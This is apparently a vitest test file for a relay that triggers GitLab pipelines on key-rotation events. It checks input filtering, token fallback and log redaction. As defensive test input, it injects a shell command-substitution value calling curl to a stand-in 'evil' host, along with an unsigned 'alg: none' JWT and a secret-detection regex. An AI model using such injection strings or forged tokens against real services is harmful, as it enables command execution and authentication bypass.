import { setImmediate as turn } from "node:timers/promises";
import { describe, expect, test } from "vitest";
import { KEY, keyEvent, newVersion, VAULT, validationEvent } from "../support/events";
import { ManualClock } from "../support/manual-clock";
import { NEXT_TOKEN, Rig, SECRET, SECRET_ENV, TOKEN } from "../support/rig";
import { says } from "../support/world";

describe("10. What GitLab is told", () => {
  test("typed inputs and nothing else: no variables, no payload; the token in the body, never in the address", async () => {
    const rig = new Rig();
    const version = newVersion();
    await rig.post([keyEvent(version, { subject: "$(curl evil)", extra: "payload" })]);
    expect(rig.world.calls).toEqual([
      {
        url: "https://gitlab.example.com/api/v4/projects/101/trigger/pipeline",
        body: { token: TOKEN, ref: "main", inputs: { backend: "azure_kv", key: `${VAULT}/${KEY}`, version } },
      },
    ]);
  });

  test("the pipeline may call its inputs otherwise", async () => {
    const names = {
      RELAY_INPUT_BACKEND: "kind",
      RELAY_INPUT_KEY: "rotated-key",
      RELAY_INPUT_VERSION: "hint",
    };
    const rig = new Rig({
      env: { ...SECRET_ENV, ...names, GITLAB_PROJECT: "platform/deploy", GITLAB_REF: "prod" },
    });
    await rig.post([keyEvent()]);
    const [call] = rig.world.calls;
    expect(call?.url).toContain("/projects/platform%2Fdeploy/trigger/pipeline");
    expect(call?.body.ref).toBe("prod");
    expect(Object.keys(call?.body.inputs ?? {})).toEqual(["kind", "rotated-key", "hint"]);
  });

  test("a token that was rotated away: the second one is tried, and goes first from then on", async () => {
    const rig = new Rig({ env: { ...SECRET_ENV, GITLAB_TRIGGER_TOKEN_NEXT: NEXT_TOKEN } });
    rig.world.script.push(says(404, { message: "404 Not Found" }));
    expect((await rig.post([keyEvent()])).status).toBe(200);
    expect((await rig.post([keyEvent()])).status).toBe(200);
    expect(rig.world.calls.map(({ body }) => body.token)).toEqual([TOKEN, NEXT_TOKEN, NEXT_TOKEN]);
  });

  test("no secret in any line of the log", async () => {
    const clock = new ManualClock();
    const rig = new Rig({ clock, env: { ...SECRET_ENV, GITLAB_TRIGGER_TOKEN_NEXT: NEXT_TOKEN } });
    rig.world.script.push(
      says(400, { message: `bad token ${TOKEN}` }),
      says(403, { message: `Bearer abc.def, code=${SECRET}, ${NEXT_TOKEN}` }),
    );
    for (const body of [[keyEvent()], [keyEvent()], "{", [validationEvent()], [keyEvent()]])
      await clock.run(rig.post(body));
    await rig.send(new Request(`https://relay.example.com/events?code=${SECRET}x`, { method: "POST" }));
    await rig.post([keyEvent()], {
      authorization: "Bearer eyJhbGciOiJub25lIn0.eyJhIjoxfQ.",
      "x-relay-secret": "wrong",
    });
    await turn();
    const log = rig.lines.join("\n");
    expect(rig.lines.length).toBeGreaterThan(6);
    for (const line of rig.lines) expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) });
    expect(log).not.toMatch(/glptt-|Bearer|code=|eyJ/);
    for (const secret of [SECRET, TOKEN, NEXT_TOKEN]) expect(log).not.toContain(secret);
  });
});
